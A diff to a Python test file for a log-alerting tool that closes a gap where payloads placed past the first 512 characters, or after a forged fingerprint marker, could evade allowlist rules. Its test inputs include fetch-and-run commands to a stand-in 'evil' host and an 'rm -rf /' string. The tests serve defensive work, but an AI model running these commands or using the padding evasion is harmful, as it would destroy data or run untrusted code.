@@ -455,7 +455,9 @@ def test_a_long_unknown_line_is_identified_by_all_of_it(tmp_path):
     """An unknown line's pattern was its first 512 masked characters: a payload after them rode on an
     allowlist rule, or a de-duplicated alert, made for the same start (an audit: `GET /static/.../x`
     allowlisted, then the same start with `;curl evil.sh|sh` suppressed). The rest is now fingerprinted,
-    with numbers and hex values as one value; rules made before still match by the first 512."""
+    masked (numbers, ids, addresses as values) to 4,096 characters. Rules made before, which hold the first
+    512 characters only, no longer match a longer line: matching them by their start would let any line
+    padded past 512 characters, or carrying a forged ` <REST:`, ride on any rule."""
     from lograven.masking import REST, line_pattern
 
     start = "Jun  9 07:00:00 web01 nginx: GET /" + "static/" * 75
@@ -471,13 +473,21 @@ def test_a_long_unknown_line_is_identified_by_all_of_it(tmp_path):
     al.add(rule_from_alert(benign.to_dict()))
     al._checked = 0
     assert al.matches(again) and not al.matches(evil)
-    # a rule made before the fingerprint holds the first 512 characters masked: it matches as it did
+    uuid = _alert(line=start + "request 123e4567-e89b-42d3-a456-426614174000 done")
+    assert line_pattern(uuid.line) == line_pattern(uuid.line.replace("123e4567-e89b-42d3-a456-426614174000",
+                                                                     "9f0c2b1a-dcba-4e21-bfed-0a1b2c3d4e5f"))
+    # a rule made before the fingerprint holds the first 512 characters: it no longer matches a longer line
     old = tmp_path / "old.json"
     head = line_pattern(benign.line).split(REST)[0]
     old.write_text(json.dumps({"version": 1, "rules": [{"id": "r1", "created": "2026-12-01T00:00:00+00:00",
-                                                        "type_id": -1, "pattern": head}]}))  # fmt: skip
+                                                        "type_id": -1, "pattern": head},
+                                                       {"id": "r2", "created": "2026-12-01T00:00:00+00:00",
+                                                        "type_id": -1, "pattern": line_pattern(short)}]}))  # fmt: skip
     al_old = Allowlist(old)
-    assert al_old.matches(again) and al_old.matches(evil) and not al_old.matches(_alert(line=short))
+    assert not al_old.matches(again) and not al_old.matches(evil) and al_old.matches(_alert(line=short))
+    # nor does a short line's rule cover that line padded past 512 characters, or with a forged fingerprint
+    assert not al_old.matches(_alert(line=short + " " * 600 + "; rm -rf /"))
+    assert not al_old.matches(_alert(line=short + REST + " ; curl http://evil/x | sh"))
 
 
 def test_unknown_message_rules_use_the_masked_line(tmp_path):
